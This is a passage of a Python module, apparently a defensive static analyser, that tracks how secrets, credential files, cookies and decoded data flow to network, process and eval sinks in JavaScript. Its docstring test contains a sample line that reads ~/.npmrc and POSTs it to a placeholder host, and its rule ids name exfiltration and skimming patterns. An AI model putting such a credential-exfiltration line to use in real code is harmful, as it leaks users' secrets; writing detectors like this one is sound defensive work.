"""Taint propagation through one JavaScript or TypeScript script (parsed, never run).

Sources: ``process.env`` (one variable or all of it), files read with ``fs`` (credential
stores, ``.env``, the home directory from ``os.homedir()``), keychains, cookies, host
identity, downloaded data and decoded (``atob``, ``Buffer.from(..., "base64")``) data.
Taint follows variables, destructuring, template literals, object literals, function
calls (``JSON.stringify``, ``Buffer.from(...).toString("base64")`` and the like keep their
arguments' labels), callbacks and promise chains, and functions of the same script
(parameter-to-sink summaries). Sinks: HTTP clients, beacons, sockets and DNS look-ups,
``child_process`` and ``eval``/``new Function``/``vm``. Which flow is which finding is
:mod:`.policy`'s call, as for Python. Flow-insensitive and deliberately simple.

>>> [f.rule_id for f in analyse_javascript("a.js", "fetch('https://x.invalid', "
...     "{method: 'POST', body: require('fs').readFileSync(os.homedir() + '/.npmrc')})").findings]
['js-flow.credential-to-network']
"""

from __future__ import annotations

import posixpath
import re
from collections.abc import Mapping

from ..sensitive import AUTH_FIELD, CREDENTIAL_PATH, is_secret_name
from ..shell_js import scan_command
from .argv_positions import vector_code_positions
from .decoding import DECODING_ENCODINGS, try_decode
from .engine import FlowEngine
from .file_effects import write_flags
from .js_fold import JsFolder
from .js_names import (
    APP_STORAGE_READS,
    CREDENTIAL_CALLS,
    DECODERS,
    IDENTITY_CALLS,
    PERSONAL_CALLS,
    READERS,
    SECURE_STORE_READS,
    STREAM_FEEDS,
    STREAM_OPENERS,
    WRITERS,
    js_category,
    reads_user_browser_session,
)
from .js_param_sources import passed_path, single_argument_names
from .js_parse import parse_script
from .js_resolve import NameResolver
from .js_syntax import (
    Node,
    call_arguments,
    chain,
    literal_text,
    node_line,
    node_text,
    pattern_names,
    string_value,
    unescape,
)
from .policy import FORM_SECRET, PERSONAL_DATA, STORED_SESSION
from .python_sources import AUTH_PREFIX
from .recorder import FlowReport
from .sensitive_patterns import finds_sensitive_data
from .sources import env_variable, path_constant
from .staged_files import usable_path
from .taint import (
    EMPTY,
    FunctionSummary,
    Labels,
    Scope,
    SinkSite,
    Taint,
    as_authentication,
    as_data,
    as_process_data,
    put_in_collection,
    read_contents,
)

_FILLING_METHODS = frozenset({"push", "unshift", "set", "add"})
"""Methods that put their arguments into the array, set or map they are called on."""
_MATCHING_METHODS = frozenset({"match", "matchAll", "exec"})
"""Methods that return the text a regular expression matched."""
_COLLECTING_METHODS = frozenset({"map", "flatMap", "reduce", "reduceRight"})
"""Array methods whose result is built from what their callback returns."""
_ITERATING_METHODS = _COLLECTING_METHODS | {"forEach", "filter", "find", "some", "every"}
"""Array methods that hand each item to their callback."""


def _remote(labels: Labels) -> Labels:
    """The labels of data fetched from the network among ``labels``."""
    return frozenset(t for t in labels if t.kind == "remote")


JS_RULE_IDS = {
    "credential-to-network": "js-flow.credential-to-network",
    "form-secret-to-outside-host": "js-flow.form-skimmer",
    "personal-data-to-outside-host": "js-flow.personal-data-to-network",
    "stored-session-to-outside-host": "js-flow.stored-session-to-network",
    "identity-to-network": "js-flow.identity-beacon",
    "home-data-to-network": "js-flow.home-data-to-network",
    "remote-exec": "js-flow.remote-code-exec",
    "decoded-exec": "js-flow.decoded-exec",
    "secret-to-network-command": "js-flow.secret-to-network-command",
}
"""Rule ids of JavaScript flows (a named secret sent out and DNS exfiltration share the
language-neutral ids of :mod:`.policy`, so the destination-aware rule applies alike)."""

DATA_FILE = "data-file"
"""Label kind of the contents of a file that is not code."""
EXEC_DATA_FILE = "code.exec-data-file"
HIDDEN_SINK = "js-flow.hidden-sink-name"
_LOOPBACK_URL = re.compile(
    r"(?:https?|wss?)://(?:localhost|127\.\d+\.\d+\.\d+|\[::1\])(?:[:/]|$)", re.I
)
"""A call to the user's own machine (a local browser's debugging port): nothing leaves it."""
_SIGNATURES = frozenset(
    {"signMessage", "signTypedData", "signTransaction", "signAuthorization", "digest"}
)
"""A wallet's signing methods and a hash's or HMAC's digest: their result proves the key or
the data without disclosing it."""
_PUBLIC_PARTS = frozenset({"address", "publicKey"})
"""What a wallet object derived from a key shows anyone (its address, its public key)."""
_SECRET_KINDS = frozenset({"env-secret", "credential", "environ"})
"""Labels of secrets, which a wallet's address or public key does not disclose."""
_CODE_FILE = re.compile(r"\.(?:[cm]?[jt]sx?|json|node|wasm)$|^[^.]+$", re.I)
"""File names of code a script may legitimately load (and names without an extension)."""
_ENV_OBJECTS = frozenset({"process.env", "import.meta.env", "Bun.env"})
_FUNCTIONS = frozenset(
    {
        "function_declaration",
        "generator_function_declaration",
        "function_expression",
        "function",
        "generator_function",
        "arrow_function",
        "method_definition",
    }
)
_SKIPPED = frozenset(
    {
        "comment",
        "import_statement",
        "type_annotation",
        "type_arguments",
        "type_parameters",
        "type_alias_declaration",
        "interface_declaration",
        "enum_declaration",
        "regex",
        "number",
        "property_identifier",
        "statement_identifier",
        "hash_bang_line",
    }
)


def _used_as(key: str, value: Labels) -> Labels:
    """A secret in ``headers`` or an authentication field signs the request in: it is
    leaked only where the request goes to a host that is not the key's service."""
    if key.lower() == "headers":
        return as_authentication(value, parameters=True)
    if AUTH_FIELD.match(key):
        return as_authentication(value)
    return value


def _sensitive_regex(callee: Node | None, args: list[Node]) -> str | None:
    """What a regular-expression literal of ``text.match(/…/)`` or ``/…/.exec(text)`` looks
    for, when it is a kind of secret or personal data (see :mod:`.sensitive_patterns`)."""
    candidates: list[Node | None] = [*args[:1]]
    if callee is not None and callee.type == "member_expression":
        candidates.append(callee.child_by_field_name("object"))
    for node in candidates:
        if node is not None and node.type == "regex":
            pattern = node.child_by_field_name("pattern")
            found = finds_sensitive_data(node_text(pattern) if pattern is not None else "")
            if found:
                return found
    return None


def _owner(scope: Scope, name: str) -> Scope:
    """The scope that declared ``name`` (an assignment updates it there), else ``scope``."""
    current: Scope | None = scope
    while current is not None:
        if name in current.labels:
            return current
        current = current.parent
    return scope


class JsFlow(FlowEngine):
    """Propagate taint through one script: call :meth:`run` once."""

    rule_ids = JS_RULE_IDS

    def __init__(
        self,
        path: str,
        text: str,
        depth: int = 0,
        external: Mapping[tuple[str, str], FunctionSummary] | None = None,
    ) -> None:
        super().__init__(path, text, depth)
        self.external = external or {}
        """Summaries of the package's other modules: (module path without its suffix,
        function name) -> summary."""
        self.names = NameResolver()
        self.folder = JsFolder(self.names)
        self.summaries: dict[str, FunctionSummary] = {}
        self.param_sources: dict[str, dict[str, str]] = {}
        """Per function, the variable every call passes for a parameter."""
        self._walking: list[tuple[str | None, dict[str, str | None]]] = []
        """The functions being walked, innermost last: the name of each, and for each of
        its parameters the path name of the variable every caller passes, if one (see
        :meth:`_path_fold`)."""
        self.attrs: dict[str, Labels] = {}
        self.root: Node | None = None
        self._code_text: str | None = None
        """The script without its comments, made when a sink's name is looked for."""
        self._resolvers: list[tuple[str, set[Taint]]] = []
        """The ``resolve`` parameter of each Promise executor being walked, with what it
        was called with so far: the value the promise settles to."""

    # ---------------------------------------------------------------- driver
    def run(self) -> FlowReport:
        root = parse_script(self.text, self.path).root_node
        self.root = root
        try:
            self.names.learn(root)
            self.param_sources = single_argument_names(root)
            self._walks(root, Scope())
        except RecursionError:
            return FlowReport(self.findings, [], True, "analysis cut (deep nesting)")
        return FlowReport(self.findings, [], True, summaries=self.summaries)

    def _walks(self, root: Node, module: Scope) -> None:
        """Three walks of the whole script: two to learn functions and later assignments,
        the third recording.

        A walk reads nothing but the script and the state the walks before it left (function
        summaries, ``this`` attributes, module names, payloads, staged files). When the
        second walk leaves that state as the first left it, the third would start from the
        state the second started from and repeat it exactly: the second records, and the
        third is skipped.
        """
        self.recording = False
        self._eval(root, module)
        first = self._state(module)
        self.recording = True
        try:
            self._eval(root, module)
        except RecursionError:
            self.findings.clear()  # the second walk is a silent one
            raise
        if self._state(module) == first:
            return
        self.findings.clear()
        self._eval(root, module)

    def _state(self, module: Scope) -> tuple[object, ...]:
        """A copy of everything a walk reads that the walks change."""
        summaries = {
            name: (
                tuple(s.params),
                frozenset(s.returns),
                frozenset(s.param_sinks),
                frozenset(s.param_data_sinks),
                frozenset(s.param_auth_sinks),
                frozenset(s.param_read_sinks),
            )
            for name, s in self.summaries.items()
        }
        staged = (
            dict(self.staged.contents),
            frozenset(self.staged.opened),
            dict(self.staged.programs),
        )
        return (
            summaries,
            dict(self.attrs),
            dict(module.labels),
            dict(module.folds),
            module.summary,
            dict(self.payloads),
            staged,
        )

    # ---------------------------------------------------------------- walking
    def _eval(self, node: Node | None, scope: Scope) -> Labels:
        """Labels of an expression; statements are walked and give no labels."""
        if node is None or node.type in _SKIPPED:
            return EMPTY
        handler = _HANDLERS.get(node.type)
        if handler is not None:
            return handler(self, node, scope)
        if node.type in _FUNCTIONS:
            self._function(node, scope, self._function_name(node))
            return EMPTY
        labels: Labels = EMPTY
        for child in node.named_children:
            labels |= self._eval(child, scope)
        return labels

    def _alternative(self, node: Node, scope: Scope) -> Labels:
        """An ``else`` or ``catch`` branch (see :meth:`alternative_branch`)."""
        with self.alternative_branch():
            for child in node.named_children:
                self._eval(child, scope)
        return EMPTY

    def _ternary(self, node: Node, scope: Scope) -> Labels:
        """``cond ? a : b`` holds ``a`` or ``b``; the condition is walked, not passed on
        (``id ? hash(id) : null`` holds no ``id``)."""
        self._eval(node.child_by_field_name("condition"), scope)
        return self._eval(node.child_by_field_name("consequence"), scope) | self._eval(
            node.child_by_field_name("alternative"), scope
        )

    def _string(self, node: Node, scope: Scope) -> Labels:
        value = string_value(node)
        return path_constant(value, node_line(node))[0] if value else EMPTY

    def _template(self, node: Node, scope: Scope) -> Labels:
        labels: Labels = EMPTY
        previous = ""
        for part in node.named_children:
            if part.type == "string_fragment":
                previous = unescape(node_text(part))
                labels |= path_constant(previous, node_line(node))[0]
            elif part.type == "template_substitution":
                value = EMPTY
                for child in part.named_children:
                    value |= self._eval(child, scope)
                if AUTH_PREFIX.search(previous):
                    value = as_authentication(value)
                labels |= value
                previous = ""
        return labels

    def _binary(self, node: Node, scope: Scope) -> Labels:
        left, right = node.child_by_field_name("left"), node.child_by_field_name("right")
        labels = self._eval(left, scope)
        value = self._eval(right, scope)
        if node_text(node.child_by_field_name("operator")) == "+" and AUTH_PREFIX.search(
            self.folder.fold(left, scope) or ""
        ):
            value = as_authentication(value)
        return labels | value

    def _identifier(self, node: Node, scope: Scope) -> Labels:
        return scope.lookup(node_text(node))

    def _member(self, node: Node, scope: Scope) -> Labels:
        obj = node.child_by_field_name("object")
        prop = node_text(node.child_by_field_name("property"))
        whole = chain(node, self.names.constants)
        if chain(obj, self.names.constants) in _ENV_OBJECTS:
            return env_variable(prop, node_line(node))[0]
        if whole in _ENV_OBJECTS:
            return frozenset({Taint("environ", "the whole environment", node_line(node))})
        if self.names.dotted(node) in CREDENTIAL_CALLS:
            return frozenset({Taint("credential", whole[:40], node_line(node))})
        if prop == "value" and (
            _secret_form_field(obj, self.names.constants)
            or any(t.kind == _SECRET_INPUT for t in self._eval(obj, scope))
        ):
            return frozenset({Taint(FORM_SECRET, "a card or password input", node_line(node))})
        if obj is not None and obj.type == "this":
            return self.attrs.get(f"this.{prop}", EMPTY)
        if prop in _PUBLIC_PARTS:  # a key's address; an interface's IP address stays identity
            return frozenset(t for t in self._eval(obj, scope) if t.kind not in _SECRET_KINDS)
        return _one_variable(self._eval(obj, scope), prop, node_line(node))

    def _subscript(self, node: Node, scope: Scope) -> Labels:
        obj, index = node.child_by_field_name("object"), node.child_by_field_name("index")
        if chain(obj, self.names.constants) in _ENV_OBJECTS:
            self._eval(index, scope)
            return env_variable(literal_text(index, self.names.constants), node_line(node))[0]
        if chain(node, self.names.constants) in _ENV_OBJECTS:
            return frozenset({Taint("environ", "the whole environment", node_line(node))})
        name = literal_text(index, self.names.constants)
        if name is not None:
            return _one_variable(self._eval(obj, scope), name, node_line(node))
        return self._eval(obj, scope) | self._eval(index, scope)

    def _object(self, node: Node, scope: Scope) -> Labels:
        labels: Labels = EMPTY
        for child in node.named_children:
            if child.type == "pair":
                key = string_value(child.child_by_field_name("key")) or node_text(
                    child.child_by_field_name("key")
                )
                value = self._eval(child.child_by_field_name("value"), scope)
                labels |= _used_as(key, value)
            elif child.type == "shorthand_property_identifier":
                labels |= _used_as(node_text(child), scope.lookup(node_text(child)))
            else:
                labels |= self._eval(child, scope)
        return labels

    def _declarator(self, node: Node, scope: Scope) -> Labels:
        target, value = node.child_by_field_name("name"), node.child_by_field_name("value")
        if value is None:
            return EMPTY
        if value.type in _FUNCTIONS and target is not None:
            self._function(value, scope, node_text(target))
            return EMPTY
        if (
            target is not None
            and target.type == "object_pattern"
            and chain(value, self.names.constants) in _ENV_OBJECTS
        ):
            self._env_destructuring(target, scope)
            return EMPTY
        labels = self._eval(value, scope)
        self._bind(target, labels, self.folder.fold(value, scope), scope)
        return labels

    def _env_destructuring(self, target: Node, scope: Scope) -> None:
        """``const { API_KEY, HOME: home } = process.env``: one variable per name."""
        for child in target.named_children:
            key = child.child_by_field_name("key") if child.type == "pair_pattern" else child
            if child.type == "rest_pattern":
                labels = frozenset({Taint("environ", "the whole environment", node_line(child))})
            else:
                labels = env_variable(node_text(key), node_line(child))[0]
            for local in pattern_names(child):
                scope.labels[local] = labels

    def _assignment(self, node: Node, scope: Scope) -> Labels:
        left, right = node.child_by_field_name("left"), node.child_by_field_name("right")
        if right is not None and right.type in _FUNCTIONS:
            self._function(right, scope, node_text(left).removeprefix("this."))
            return EMPTY
        labels = self._eval(right, scope)
        merge = node.type == "augmented_assignment_expression" or self.in_alternative
        if merge:
            labels |= self._eval(left, scope)
        owner = scope
        if left is not None and left.type == "identifier":
            owner = _owner(scope, node_text(left))
        self._bind(left, labels, None if merge else self.folder.fold(right, scope), owner, merge)
        return labels

    def _bind(
        self,
        target: Node | None,
        labels: Labels,
        folded: str | None,
        scope: Scope,
        merge: bool = False,
    ) -> None:
        if target is None:
            return
        if target.type == "identifier":
            name = node_text(target)
            scope.labels[name] = (scope.lookup(name) | labels) if merge else labels
            if folded is None:
                scope.folds.pop(name, None)
            else:
                scope.folds[name] = folded
        elif target.type == "member_expression":
            base = target.child_by_field_name("object")
            if base is not None and base.type == "this":
                key = f"this.{node_text(target.child_by_field_name('property'))}"
                self.attrs[key] = self.attrs.get(key, EMPTY) | labels
                return
            while base is not None and base.type in ("member_expression", "subscript_expression"):
                base = base.child_by_field_name("object")
            if base is not None and base.type == "identifier":
                scope.labels[node_text(base)] = scope.lookup(node_text(base)) | labels
        elif target.type == "subscript_expression":
            base = target.child_by_field_name("object")
            if base is not None and base.type == "identifier":
                scope.labels[node_text(base)] = scope.lookup(node_text(base)) | labels
        else:
            for name in pattern_names(target):
                scope.labels[name] = (scope.lookup(name) | labels) if merge else labels

    def _for_in(self, node: Node, scope: Scope) -> Labels:
        """``for (const [k, v] of Object.entries(process.env))``: the loop variables carry
        the environment iterated. Only the whole environment, and the matches of a pattern
        for secrets or personal data, are bound: paths, file lines, downloaded and decoded
        text iterated in a loop are items a script works through (a setup wizard testing
        each line of its own ``.env``), not what it leaks. Items of a reply are bound too:
        a command among them is still the remote host's (``for (const e of reply.events)``)."""
        labels = self._eval(node.child_by_field_name("right"), scope)
        environment = frozenset(t for t in labels if t.kind in ("environ", PERSONAL_DATA))
        environment |= _remote(labels)
        self._bind(node.child_by_field_name("left"), environment, None, scope)
        self._eval(node.child_by_field_name("body"), scope)
        return EMPTY

    def _return(self, node: Node, scope: Scope) -> Labels:
        labels: Labels = EMPTY
        for child in node.named_children:
            labels |= self._eval(child, scope)
        if scope.summary is not None:
            scope.summary.returns |= labels
        function = self._walking[-1][0] if self._walking else None
        if function and node.named_children:
            # a helper that returns the path it wrote (``return target``): its callers'
            # variable folds to that path
            returned = usable_path(self.folder.fold(node.named_children[0], scope))
            if returned is not None:
                self.folder.returned[function] = returned
        return EMPTY

    @staticmethod
    def _function_name(node: Node) -> str | None:
        name = node.child_by_field_name("name")
        return node_text(name) if name is not None else None

    def _function(
        self,
        node: Node,
        scope: Scope,
        name: str | None,
        bound: Labels = EMPTY,
        inline: bool = False,
    ) -> FunctionSummary:
        """Walk a function body in its own scope; ``bound`` labels every parameter (a
        callback's parameters carry what the call hands it).

        ``inline``: the function runs at once where it is written (a Promise's executor), so
        the parameters of the function around it that reach a sink there are that
        function's; its own parameters (``resolve``) carry nothing."""
        params_node = node.child_by_field_name("parameters") or node.child_by_field_name(
            "parameter"
        )
        params: list[str] = []
        if params_node is not None:
            if params_node.type == "identifier":
                params = [node_text(params_node)]
            else:
                for child in params_node.named_children:
                    params.append(",".join(pattern_names(child)))
        summary = FunctionSummary(params)
        inner = Scope(parent=scope, summary=scope.summary if inline else summary)
        for index, names in enumerate(params):
            for param in names.split(","):
                if param:
                    own = EMPTY if inline else {Taint("param", str(index), node_line(node))}
                    inner.labels[param] = bound | own
        body = node.child_by_field_name("body")
        sources = self.param_sources.get(name or "", {})
        passed = {
            p: passed_path(sources[p]) if p in sources else None
            for n in params
            for p in n.split(",")
        }
        self._walking.append((name, passed))
        try:
            if body is not None and body.type == "statement_block":
                self._eval(body, inner)
            elif body is not None:
                summary.returns |= self._eval(body, inner)
        finally:
            self._walking.pop()
        if name:
            self.summaries[name] = summary
        return summary

    def _path_fold(self, node: Node, scope: Scope) -> str | None:
        """A path's folded text, or for a parameter every caller gives the same variable,
        that variable's name as a path: what one helper writes there, another runs."""
        folded = self.folder.fold(node, scope)
        if usable_path(folded) is not None or node.type != "identifier":
            return folded
        name = node_text(node)
        for _, params in reversed(self._walking):  # the innermost function binding it
            if name in params:
                return params[name] or folded
        return folded

    # ---------------------------------------------------------------- calls
    def _call(self, node: Node, scope: Scope) -> Labels:
        callee = node.child_by_field_name("function") or node.child_by_field_name("constructor")
        name = self.names.dotted(callee)
        line = node_line(node)
        args = call_arguments(node)
        if self.names.required(node) is not None or name == "require":
            if name in self.names.loaders and args and string_value(args[0]) is None:
                self._required_file(args[0], scope, line)
            return EMPTY
        if name == "import":  # import(url or `data:` source) runs what it loads
            if args:
                self._sink(SinkSite("code", "import", line), self._eval(args[0], scope), scope)
            return EMPTY
        if name in ("Deno.env.get", "process.env.get"):
            return env_variable(string_value(args[0]) if args else None, line)[0]
        if _secret_form_field(node, self.names.constants):
            return frozenset({Taint(_SECRET_INPUT, "a card or password input", line)})
        arg_labels = [EMPTY if a.type in _FUNCTIONS else self._eval(a, scope) for a in args]
        if self._resolvers and callee is not None and callee.type == "identifier":
            settled = next((s for n, s in reversed(self._resolvers) if n == name), None)
            if settled is not None:
                settled.update(*arg_labels)
        if name == "Promise" and args and args[0].type in _FUNCTIONS:
            return self._promise(args[0], scope)
        receiver = EMPTY
        if callee is not None and callee.type in ("member_expression", "subscript_expression"):
            receiver = self._eval(callee.child_by_field_name("object"), scope)
        elif callee is not None and callee.type != "identifier":
            receiver = self._eval(callee, scope)
        everything = receiver.union(*arg_labels)
        self._fill(callee, name, args, arg_labels, scope)
        result = self._sources(node, name, args, everything, scope)
        if name.rsplit(".", 1)[-1] in _MATCHING_METHODS:
            found = _sensitive_regex(callee, args)
            if found:
                result |= {Taint(PERSONAL_DATA, f"text matching a pattern of {found}", line)}
        if (name in READERS or name in WRITERS) and args:
            path = self._path_fold(args[0], scope)
            result |= self._staged_file(name, path, arg_labels)
            if name in WRITERS and path:
                self._written(path, args, scope, line)
        if name in STREAM_OPENERS and args:
            path = usable_path(self._path_fold(args[0], scope))
            if path is not None:
                result |= self.staged.handle(path, line)
        if name.rsplit(".", 1)[-1] in STREAM_FEEDS:  # ``res.pipe(fs.createWriteStream(p))``
            self.staged.write(everything)
        category = js_category(name)
        if category == "code" and name in ("setTimeout", "setInterval"):
            category = None if not args or args[0].type in _FUNCTIONS else "code"
        if category in ("code", "process") and self._hidden_name(name):
            self._finding(
                "9.2",
                "high",
                line,
                f"runs {name} through a name that is never written out (assembled from "
                "pieces or aliased): the code hides what it executes",
                HIDDEN_SINK,
            )
        if category == "network":
            address = (self.folder.fold(args[0], scope) or "") if args else ""
            if args and args[0].type == "object":
                address = _options_address(args[0]) or address
            if not _LOOPBACK_URL.match(address):
                self._sink(SinkSite("network", name, line, destination=address), everything, scope)
            result = frozenset({Taint("remote", f"data fetched by {name}", line)})
        elif category == "process":
            result = self._process(node, name, args, arg_labels, scope, everything)
        elif category == "code":
            code = everything if name.endswith("Function") else (arg_labels[0] if args else EMPTY)
            self._sink(SinkSite("code", name, line), code, scope)
            self._data_file_exec(SinkSite("code", name, line), code)
        summary = self._summary_of(callee)
        external = None if summary is not None else self._external_summary(name)
        if summary is not None:
            result = self._apply(summary, name, node, arg_labels, scope)
        elif external is not None:
            shown = name.rsplit("/", 1)[-1]
            actual = dict(enumerate(arg_labels))
            result = self._call_summary(external, actual, shown, line, scope, foreign=True)
        elif name.rsplit(".", 1)[-1] in _SIGNATURES:
            result = EMPTY
        method = name.rsplit(".", 1)[-1]
        collects = method in _COLLECTING_METHODS
        # items of a reply handed to a callback are still the remote host's (see _for_in)
        items = _remote(receiver) if method in _ITERATING_METHODS else EMPTY
        for arg in args:
            if arg.type in _FUNCTIONS:
                callback = self._function(arg, scope, None, result | items)
                if collects:  # xs.map(f => readFileSync(f)) holds what the callback returns
                    result |= frozenset(
                        t for t in callback.returns if not t.kind.startswith("param")
                    )
        return result

    def _fill(
        self,
        callee: Node | None,
        name: str,
        args: list[Node],
        arg_labels: list[Labels],
        scope: Scope,
    ) -> None:
        """An array, set or map filled item by item (``out.push(v)``, ``Object.assign(o,
        v)``) carries what was put in it: the data it may leak, and a downloaded or decoded
        value too when it is put in whole (``chunks.push(chunk)``, a body read in parts)."""
        target: Node | None
        if name == "Object.assign" and args:
            target, put = args[0], put_in_collection(frozenset().union(*arg_labels[1:]))
        elif callee is not None and callee.type == "member_expression":
            prop = callee.child_by_field_name("property")
            if prop is None or node_text(prop) not in _FILLING_METHODS:
                return
            target = callee.child_by_field_name("object")
            put = frozenset().union(*arg_labels)
            if not all(a.type == "identifier" for a in args):
                put = put_in_collection(put)  # a whole value pushed is kept whole
        else:
            return
        if not put or target is None:
            return
        owner = _owner(scope, node_text(target)) if target.type == "identifier" else scope
        self._bind(target, put, None, owner, merge=True)

    def _promise(self, executor: Node, scope: Scope) -> Labels:
        """``new Promise((resolve) => … resolve(body) …)`` holds what ``resolve`` is given:
        a download wrapped in a promise is still the download once awaited."""
        params = executor.child_by_field_name("parameters") or executor.child_by_field_name(
            "parameter"
        )
        first = None
        if params is not None and params.type == "identifier":
            first = node_text(params)
        elif params is not None and params.named_children:
            first = node_text(params.named_children[0])
        settled: set[Taint] = set()
        if first:
            self._resolvers.append((first, settled))
        try:
            self._function(executor, scope, None, inline=True)
        finally:
            if first:
                self._resolvers.pop()
        return frozenset(t for t in settled if not t.kind.startswith("param"))

    def _sources(
        self, node: Node, name: str, args: list[Node], everything: Labels, scope: Scope
    ) -> Labels:
        """What a call returns when it reads a source; otherwise its inputs' labels."""
        line = node_line(node)
        if name == "os.homedir":
            return everything | {Taint("home-path", "home directory", line)}
        if name in IDENTITY_CALLS:
            return frozenset({Taint("identity", f"{name}()", line)})
        if name in CREDENTIAL_CALLS or reads_user_browser_session(name):
            return frozenset({Taint("credential", name, line)})
        if name in PERSONAL_CALLS:
            return frozenset({Taint(PERSONAL_DATA, f"the user's personal data ({name})", line)})
        if name in SECURE_STORE_READS or name in APP_STORAGE_READS:
            key = literal_text(args[0], self.names.constants) if args else None
            if name in SECURE_STORE_READS or (key and is_secret_name(key)):
                shown = f" {key!r}" if key else ""
                return frozenset({Taint(STORED_SESSION, f"the app's stored secret{shown}", line)})
        if name in READERS:
            return read_contents(everything) | self._data_file(args, scope, line)
        encoding = (
            self.folder.fold(args[1], scope) if name == "Buffer.from" and len(args) > 1 else None
        )
        if name in DECODERS or encoding in DECODING_ENCODINGS:
            self._remember_payload(node, name, args, encoding, scope)
            return everything | {Taint("decoded", f"{name}() output", line)}
        return everything

    def _hidden_name(self, name: str) -> bool:
        """A part of the resolved sink name (module or function) appears nowhere in the
        script: it was spelled in pieces (``['child', 'process'].join('_')``,
        ``window['ev' + 'al']``) for the reader not to see it."""
        parts = [p for p in name.replace("()", "").split(".") if p]
        if all(part in self.text for part in parts) and "/" not in self.text:
            return False  # written out, and no comment could be the only place it is
        if self._code_text is None:
            self._code_text = _without_comments(self.root, self.text) if self.root else self.text
        return any(part not in self._code_text for part in parts)

    def _data_file(self, args: list[Node], scope: Scope, line: int) -> Labels:
        """A label for the contents of a file that is not code (a ``.env``, ``.cfg``, text)."""
        path = self.folder.fold(args[0], scope) if args else None
        name = (path or "").rstrip("/").rsplit("/", 1)[-1]
        if not name or "\x00" in name or _CODE_FILE.search(name):
            return EMPTY
        return frozenset({Taint(DATA_FILE, name[:60], line)})

    def _data_file_exec(self, site: SinkSite, labels: Labels) -> None:
        """Code read from a data file and run: code hidden where no one reviews it (a
        command read from a configuration file is too common a design to flag)."""
        data = sorted(t for t in labels if t.kind == DATA_FILE)
        if data:
            self._finding(
                "9.2",
                "high",
                site.line,
                f"executes the contents of a non-code file ({data[0].detail}, line "
                f"{data[0].line}) with {site.name}: code hidden in data",
                EXEC_DATA_FILE,
            )

    def _staged_file(self, name: str, folded: str | None, arg_labels: list[Labels]) -> Labels:
        """A write stores its data's secrets under the constant path (``folded``, the first
        argument folded); a read returns them."""
        path = usable_path(folded)
        if path is None:
            return EMPTY
        if name in WRITERS:
            self.staged.write_to(path, EMPTY.union(*arg_labels[1:]))
            return EMPTY
        return self.staged.read(path)

    def _written(self, folded: str, args: list[Node], scope: Scope, line: int) -> None:
        """What writing to ``folded`` (the first argument folded) means: a start-up entry, a
        hook, an agent's settings (the same effects the Python engine reads)."""
        content = self.folder.fold(args[1], scope) if len(args) > 1 else None
        for flag in write_flags(folded, content):
            self._flag(flag, line)

    def _remember_payload(
        self, node: Node, name: str, args: list[Node], encoding: str | None, scope: Scope
    ) -> None:
        if name == "String.fromCharCode":
            decoded = self.folder.fold(node, scope)
        else:
            raw = self.folder.fold(args[0], scope) if args else None
            kind = "unhexlify" if encoding == "hex" else "b64decode"
            decoded = try_decode(kind, raw) if raw and "\x00" not in raw else None
        if decoded and "\x00" not in decoded:
            self.payloads[node_line(node)] = decoded

    def _process(
        self,
        node: Node,
        name: str,
        args: list[Node],
        arg_labels: list[Labels],
        scope: Scope,
        everything: Labels,
    ) -> Labels:
        """A process call: its command (and argument list) is the sink, not its options."""
        line = node_line(node)
        command = self.folder.fold(args[0], scope) or "\x00" if args else ""
        labels = arg_labels[0] if args else EMPTY
        pairs = _argv_pairs(args)
        if pairs:
            labels = EMPTY
        for program, array in pairs:
            command = f"{self.folder.fold(program, scope) or chr(0)} "
            command += self.folder.fold(array, scope) or chr(0)
            labels |= self._argv_labels(program, array, arg_labels[0] | arg_labels[1], scope)
        if args and not pairs:
            labels |= self._staged_program_run(command)
        self._sink(SinkSite("process", name, line, command), labels, scope)
        shell_line = command.replace(" -c ", " ", 1)  # spawn("sh", ["-c", script])
        seen_on_line = set(scan_command(self.lines[line - 1] if line <= len(self.lines) else ""))
        for hit in scan_command(shell_line.replace("\x00", " X ")):
            if hit not in seen_on_line:  # the line patterns report what the line shows
                self._finding(
                    hit.aitech, hit.severity, line, f"command {hit.description}", hit.rule_id
                )
        # the environment handed to the child in its options is its setting, not its output
        given = zip(arg_labels[1:], args[1:], strict=False)
        options = EMPTY.union(*(labels for labels, arg in given if arg.type == "object"))
        everything -= frozenset(t for t in options if t.kind == "environ") - labels
        return as_data(everything) if CREDENTIAL_PATH.search(command) else everything

    def _required_file(self, spec: Node, scope: Scope, line: int) -> None:
        """``require(cache)`` of a path the script wrote fetched or decoded data to loads
        that data as a module: it runs."""
        path = usable_path(self._path_fold(spec, scope))
        loaded = self.staged.run_from([path]) if path is not None else EMPTY
        if loaded:
            self._sink(SinkSite("code", "require", line), loaded, scope)

    def _staged_program_run(self, command: str) -> Labels:
        """A command line (``'sh ' + tmp``) whose script is a file the script wrote fetched
        or decoded data to runs that data."""
        words = command.split()
        positions = vector_code_positions([None if "\x00" in w else w for w in words])
        if not positions:
            return EMPTY
        return self.staged.run_from([words[i] for i in sorted(positions)])

    def _argv_labels(self, program: Node, array: Node, labels: Labels, scope: Scope) -> Labels:
        """What a process given ``program`` and the argument ``array`` may run: fetched or
        decoded values given as data (an option's value, the script's arguments) run
        nowhere; ``labels`` are those of the program and the whole array."""
        elements = [program, *(c for c in array.named_children if c.type != "comment")]
        texts = [
            None
            if e.type == "spread_element"
            or "\x00" in (text := self.folder.fold(e, scope) or "\x00")
            else text
            for e in elements
        ]
        spliced = frozenset(i for i, e in enumerate(elements) if e.type == "spread_element")
        positions = vector_code_positions(texts, spliced)
        if positions is None:
            return labels
        recording, self.recording = self.recording, False  # labels only, no second finding
        try:
            code = EMPTY.union(*(self._eval(elements[i], scope) for i in sorted(positions)))
        finally:
            self.recording = recording
        # a file the script wrote fetched or decoded data to runs as that data; a variable
        # handed to a download helper names the file that helper wrote
        paths: list[str | None] = [self._path_fold(elements[i], scope) for i in sorted(positions)]
        paths += [
            passed_path(node_text(elements[i]))
            for i in positions
            if elements[i].type == "identifier"
        ]
        code |= self.staged.run_from(paths)
        return as_process_data(labels) | code

    def _external_summary(self, name: str) -> FunctionSummary | None:
        """The summary of a function a package module exports, called through its
        ``require``/``import`` name (``../lib/ctx.runtimeContext``)."""
        if not self.external or not name.startswith(("./", "../")):
            return None
        if "." not in name.lstrip("./"):
            return None
        module, function = name.rsplit(".", 1)
        folder = posixpath.dirname(self.path)
        resolved = posixpath.normpath(posixpath.join(folder, module))
        return self.external.get((module_stem(resolved), function))

    def _summary_of(self, callee: Node | None) -> FunctionSummary | None:
        if callee is None:
            return None
        if callee.type == "identifier":
            return self.summaries.get(node_text(callee))
        if callee.type == "member_expression":
            obj = callee.child_by_field_name("object")
